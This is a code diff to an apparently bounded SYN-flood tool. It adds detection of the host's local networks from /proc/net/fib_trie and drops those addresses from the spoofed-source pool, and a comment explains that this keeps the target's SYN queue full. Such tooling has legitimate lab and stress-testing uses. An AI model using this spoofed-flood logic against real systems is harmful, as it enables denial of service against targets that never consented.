@@ -78,6 +78,21 @@ def _parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
     return p.parse_args(argv)
 
 
+def local_networks(fib_trie: str = "/proc/net/fib_trie") -> list[ipaddress.IPv4Network]:
+    """What this host answers for in the namespace the tool runs in: the kernel's FIB lists
+    each local address or prefix as a ``|-- ADDR`` line followed by ``/LEN host LOCAL``."""
+    local: list[ipaddress.IPv4Network] = []
+    last = ""
+    with open(fib_trie) as lines:
+        for line in lines:
+            words = line.split()
+            if words[:1] == ["|--"]:
+                last = words[1]
+            elif words[1:] == ["host", "LOCAL"]:
+                local.append(ipaddress.IPv4Network(f"{last}{words[0]}", strict=False))
+    return local
+
+
 def make_plan(args: argparse.Namespace) -> Plan:
     """Check every bound; raise Refusal with a one-line reason."""
     try:
@@ -101,8 +116,12 @@ def make_plan(args: argparse.Namespace) -> Plan:
         raise Refusal("mss must be in [1, 65535]")
     if not 0 < args.pool <= MAX_POOL:
         raise Refusal(f"pool must be in [1, {MAX_POOL}]")
-    # hosts() leaves out the network and broadcast addresses (of a /30 or larger)
-    sources = [str(a) for a in net.hosts() if a != target]
+    # hosts() leaves out the network and broadcast addresses (of a /30 or larger); an
+    # address of this host is no spoofed source: it answers the SYN-ACKs with RSTs, which
+    # free SYN queue slots that a flood from absent hosts keeps full
+    local = local_networks()
+    sources = [str(a) for a in net.hosts()
+               if a != target and not any(a in n for n in local)]
     if not sources:
         raise Refusal(f"no spoofable source left in {net}")
     return Plan(str(target), args.port, args.rate, args.duration, args.count, sources,
